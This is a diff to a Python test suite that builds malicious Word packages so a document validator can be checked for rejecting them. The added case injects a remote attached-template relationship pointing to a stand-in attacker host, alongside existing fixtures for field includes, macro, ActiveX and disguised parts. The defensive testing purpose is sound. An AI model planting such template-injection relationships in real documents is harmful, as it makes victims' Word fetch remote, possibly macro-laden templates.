@@ -109,6 +109,17 @@ def image_lie() -> dict[str, bytes]:
     return parts
 
 
+def disguised_relationships() -> dict[str, bytes]:
+    parts = default_parts()
+    parts["word/_rels/document.xml.rels"] = parts["word/_rels/document.xml.rels"].replace(
+        b"</Relationships>",
+        b'<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+        b'Target="http://attacker.invalid/t.dotm" TargetMode="External"/></Relationships>',
+    )
+    parts["[Content_Types].xml"] = with_override(parts["[Content_Types].xml"], "word/_rels/document.xml.rels", HEADER_TYPE)
+    return parts
+
+
 HOSTILE: dict[str, tuple[Callable[[], dict[str, bytes]], str]] = {
     "fldSimple": (fld_simple, "part word/header1.xml has a INCLUDEPICTURE field"),
     "split-across-runs": (split_runs, "part word/header1.xml has a INCLUDETEXT field"),
@@ -119,6 +130,7 @@ HOSTILE: dict[str, tuple[Callable[[], dict[str, bytes]], str]] = {
     "vbaProject": (macro_part, "part word/vbaProject.bin has content type application/vnd.ms-office.vbaProject"),
     "undeclared": (undeclared_part, "part word/embeddings/thing.payload has no content type"),
     "activeX": (activex_part, "part word/activeX/activeX1.xml has content type application/vnd.ms-office.activeX+xml"),
+    "disguised-rels": (disguised_relationships, "part word/_rels/document.xml.rels is a relationships part declared as"),
     "image-lie": (image_lie, "part word/media/image1.png is declared image/png but is not one"),
 }
 
